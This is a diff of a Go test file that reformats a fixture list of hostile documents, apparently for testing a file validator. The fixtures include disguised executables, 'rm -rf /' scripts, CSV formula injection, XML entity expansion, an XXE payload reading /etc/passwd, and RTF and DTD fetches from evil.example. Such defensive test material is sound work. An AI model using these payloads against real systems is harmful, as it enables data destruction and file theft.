@@ -79,17 +79,27 @@ func wide(s string) string {
 // others are programs, and documents of other kinds that act.
 func others() []File {
 	return []File{
-		{"program.exe", "MZ\x90\x00" + strings.Repeat("\x00", 200)}, {"program.pdf", "MZ\x90\x00" + strings.Repeat("\x00", 200)},
-		{"program.docx", "\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 200)}, {"run.sh", "#!/bin/sh\nrm -rf /\n"}, {"run.txt", "#!/bin/sh\nrm -rf /\n"},
-		{"run.js", attack}, {"run.hta", "<hta:application>" + attack}, {"run.bat", "@echo off\r\ndel *.*"}, {"run.ps1", "iex x"},
-		{"link.url", "[InternetShortcut]\r\nURL=file://evil.example/x"}, {"link.lnk", "L\x00\x00\x00\x01\x14\x02\x00"},
+		{"program.exe", "MZ\x90\x00" + strings.Repeat("\x00", 200)},
+		{"program.pdf", "MZ\x90\x00" + strings.Repeat("\x00", 200)},
+		{"program.docx", "\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 200)},
+		{"run.sh", "#!/bin/sh\nrm -rf /\n"},
+		{"run.txt", "#!/bin/sh\nrm -rf /\n"},
+		{"run.js", attack},
+		{"run.hta", "<hta:application>" + attack},
+		{"run.bat", "@echo off\r\ndel *.*"},
+		{"run.ps1", "iex x"},
+		{"link.url", "[InternetShortcut]\r\nURL=file://evil.example/x"},
+		{"link.lnk", "L\x00\x00\x00\x01\x14\x02\x00"},
 		{"formula.csv", "naam,bedrag\n=cmd|' /C calc'!A0,1\n@SUM(1+1)*cmd|x,2\n"},
-		{"object.rtf", `{\rtf1{\object\objemb\objupdate{\*\objdata 0105}}}`}, {"template.rtf", `{\rtf1{\*\template http://evil.example/a.dotm}}`},
+		{"object.rtf", `{\rtf1{\object\objemb\objupdate{\*\objdata 0105}}}`},
+		{"template.rtf", `{\rtf1{\*\template http://evil.example/a.dotm}}`},
 		{"macros.doc", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 2000) + "_\x00V\x00B\x00A\x00_\x00P\x00R\x00O\x00J\x00E\x00C\x00T\x00"},
 		{"laughs.xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>`},
 		{"fetch.xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]><a>&a;</a>`},
 		{"outside.xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/a.dtd">%p;]><a/>`},
-		{"nothing.pdf", ""}, {"one.pdf", "%"}, {"zeros.pdf", strings.Repeat("\x00", 100_000)},
+		{"nothing.pdf", ""},
+		{"one.pdf", "%"},
+		{"zeros.pdf", strings.Repeat("\x00", 100_000)},
 	}
 }
 
